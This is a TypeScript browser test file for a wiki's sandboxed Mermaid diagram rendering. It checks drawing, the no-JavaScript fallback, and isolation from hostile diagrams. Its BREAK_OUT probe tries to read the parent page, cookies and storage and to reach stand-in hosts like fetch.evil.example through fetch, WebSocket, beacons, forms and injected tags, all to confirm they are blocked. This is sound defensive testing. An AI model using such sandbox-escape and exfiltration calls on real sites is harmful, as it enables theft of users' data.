import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openWiki } from '@pagetree/wiki';
import { callOperation } from '@pagetree/wiki/contract';
import type { Browser, BrowserContextOptions, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, expect, onTestFinished, test } from 'vitest';
import { openChromium } from '../open-chromium.ts';
import { ServedWeb } from '../served-web.ts';
import { HOSTILE_DIAGRAMS } from './hostile-diagrams.ts';

let directory: string;
let web: ServedWeb;
let baseURL: string;
let browser: Browser;
/** Stands for every other machine: nothing may reach it. It notes the name by which it was reached. */
const elsewhere = createServer((socket) => {
  socket.once('data', (data) => {
    reached.push(/[\w.-]+\.example/.exec(data.toString('latin1'))?.[0] ?? 'unknown');
    socket.destroy();
  });
});
let reached: string[] = [];

beforeAll(async () => {
  directory = mkdtempSync(join(tmpdir(), 'pagetree-diagrams-'));
  await fillWithDiagrams(directory);
  await once(elsewhere.listen(0, '127.0.0.1'), 'listening');
  const { port } = elsewhere.address() as AddressInfo;
  web = new ServedWeb(['--port', '0', '--dir', directory]);
  baseURL = await web.address();
  browser = await openChromium([`--host-resolver-rules=MAP *evil.example 127.0.0.1:${port}`]);
});

beforeEach(() => {
  reached = [];
});

afterAll(async () => {
  await browser?.close();
  await web?.stop();
  elsewhere.close();
  if (directory !== undefined) rmSync(directory, { recursive: true });
});

async function fillWithDiagrams(directory: string): Promise<void> {
  const host = { backend: 'local', versions: {}, problems: [] };
  const { wiki, close } = await openWiki({ directory, wiki: null, placement: 'local', host });
  const write = (path: string, diagrams: readonly string[]) =>
    callOperation(
      wiki,
      'write_page',
      { path, content: `# ${path}\n\nText.\n\n${diagrams.map(blockOf).join('\n\n')}\n` },
      { caller: { author: { name: 'Ada', email: '' }, agent: null } },
    );
  await write('Diagrams', ['graph LR\nA[First] --> B', 'sequenceDiagram\nA->>B: Second', 'graph TD\nA --']);
  await write('Text', []);
  await write('Hostile', [...HOSTILE_DIAGRAMS, HARMLESS]);
  await close();
}

const HARMLESS = 'graph LR\nA[After] --> B';

function blockOf(diagram: string): string {
  return `\`\`\`mermaid\n${diagram}\n\`\`\``;
}

async function open(options: BrowserContextOptions = {}): Promise<{ page: Page; events: string[] }> {
  const context = await browser.newContext({ baseURL, ...options });
  onTestFinished(() => context.close());
  const events: string[] = [];
  await context.exposeBinding('hacked', ({ frame }) => events.push(`a script runs in ${frame.url()}`));
  const page = await context.newPage();
  page.on('popup', () => events.push('a window opens'));
  page.on('dialog', async (dialog) => {
    events.push('a dialog opens');
    await dialog.dismiss();
  });
  return { page, events };
}

test('diagrams are drawn in the place of their text, which stays below them, and a wrong one says what is wrong', async () => {
  const { page } = await open();
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await page.goto('/main/Text');
  await page.waitForLoadState('networkidle');
  expect(asked.filter((url) => url.includes('diagrams'))).toEqual([]);

  await page.goto('/main/Diagrams');
  const images = page.locator('figure.diagram img');
  await expectDrawn(images, 2);
  await page.getByText('This diagram is not drawn.').getByText('Parse error').waitFor();
  expect(await page.locator('article > .diagram > pre').textContent()).toContain('A --');
  await page.getByText('Source of the diagram').first().click();
  await page.getByText('A[First] --> B').waitFor();
  expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(1280);
  const light = await images.first().getAttribute('src');
  await page.emulateMedia({ colorScheme: 'dark' });
  await expect.poll(() => images.first().getAttribute('src')).not.toBe(light);
});

async function expectDrawn(images: ReturnType<Page['locator']>, count: number): Promise<void> {
  const drawn = () =>
    images.evaluateAll((all) => all.filter((image) => (image as HTMLImageElement).naturalWidth > 0).length);
  await expect.poll(drawn).toBe(count);
}

test('without JavaScript a diagram is its text', async () => {
  const { page } = await open({ javaScriptEnabled: false });
  await page.goto('/main/Diagrams');
  expect(await page.locator('pre').allTextContents()).toEqual([
    expect.stringContaining('First'),
    expect.stringContaining('Second'),
    expect.stringContaining('A --'),
  ]);
});

test(`${HOSTILE_DIAGRAMS.length} hostile diagrams run no script, ask nobody, navigate nowhere, and leave the next one whole`, async () => {
  // All of them are in view at once.
  const { page, events } = await open({ viewport: { width: 1280, height: 30_000 } });
  await page.goto('/main/Hostile');
  // Mermaid takes a second to load, and far longer on a busy machine.
  await page.locator('figure.diagram', { hasText: 'After' }).waitFor({ timeout: 600_000 });
  const drawn = await page.locator('figure.diagram img').all();
  expect(drawn.length).toBeGreaterThan(HOSTILE_DIAGRAMS.length / 2);
  for (const image of drawn) await image.click();
  expect(page.url()).toBe(`${baseURL}/main/Hostile`);
  for (const frame of page.frames().slice(1)) expect(frame.url()).toContain(`${baseURL}/_/diagrams.`);
  expect([events, reached]).toEqual([[], []]);
});

test('a script that got into the frame reaches neither the page, nor what the browser keeps, nor the wiki', async () => {
  const { page, events } = await open();
  await page.goto('/main/Diagrams');
  await expectDrawn(page.locator('figure.diagram img'), 2);
  await page.emulateMedia({ colorScheme: 'dark' });
  const frame = page.frames()[1];
  if (frame === undefined) throw new Error('There is no frame.');
  const blocked = await frame.evaluate<string[]>(BREAK_OUT);
  expect(blocked).toEqual([
    'page',
    'storage',
    'cookies',
    'fetch',
    'wiki',
    'socket',
    'worker',
    'import',
    'top',
  ]);
  await frame.evaluate("location.href = 'https://away.evil.example/'").catch(() => undefined);
  await page.waitForTimeout(1_000);
  expect(page.url()).toBe(`${baseURL}/main/Diagrams`);
  expect(events).toEqual([]);
});

/** Tries each way out, and returns those that are shut. */
const BREAK_OUT = `(async () => {
  const ways = {
    page: () => parent.document.body,
    storage: () => localStorage.length,
    cookies: () => document.cookie,
    fetch: () => fetch('https://fetch.evil.example/'),
    wiki: () => fetch('/main/Diagrams'),
    socket: () => new Promise((resolve, reject) => Object.assign(new WebSocket('wss://socket.evil.example/'), { onopen: resolve, onerror: reject })),
    worker: () => new Promise((resolve, reject) => Object.assign(new Worker('data:text/javascript,postMessage(1)'), { onmessage: resolve, onerror: reject })),
    import: () => import('data:text/javascript,1'),
    top: () => { top.location = 'https://top.evil.example/'; },
  };
  const shut = [];
  for (const [name, way] of Object.entries(ways)) try { await way(); } catch { shut.push(name); }
  const load = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
  load('img', { src: 'https://img.evil.example/' });
  load('script', { src: 'https://script.evil.example/' });
  load('iframe', { src: 'https://frame.evil.example/' });
  load('link', { rel: 'stylesheet', href: 'https://style.evil.example/' });
  load('link', { rel: 'prefetch', href: 'https://prefetch.evil.example/' });
  load('style', { textContent: '* { background: url(https://css.evil.example/) }' });
  navigator.sendBeacon('https://beacon.evil.example/');
  window.open('https://window.evil.example/');
  const form = Object.assign(document.createElement('form'), { action: 'https://form.evil.example/' });
  document.body.append(form);
  form.submit();
  await new Promise((resolve) => setTimeout(resolve, 300));
  return shut;
})()`;

test('a diagram that never ends stays text, and the page and the next diagram live on', async () => {
  const { page } = await open();
  await page.clock.install();
  await page.goto('/main/Diagrams');
  await expectDrawn(page.locator('figure.diagram img'), 2);
  const [, frame] = page.frames();
  if (frame === undefined) throw new Error('There is no frame.');
  await frame.evaluate('mermaid.render = () => { for (;;); }').catch(() => undefined);
  const before = await page.locator('figure.diagram img').first().getAttribute('src');
  await page.emulateMedia({ colorScheme: 'dark' });
  await page.clock.runFor(21_000);
  await expect.poll(() => page.locator('figure.diagram img').first().getAttribute('src')).toBe(before);
  await expect.poll(() => page.locator('figure.diagram img').nth(1).getAttribute('src')).not.toBe(before);
});
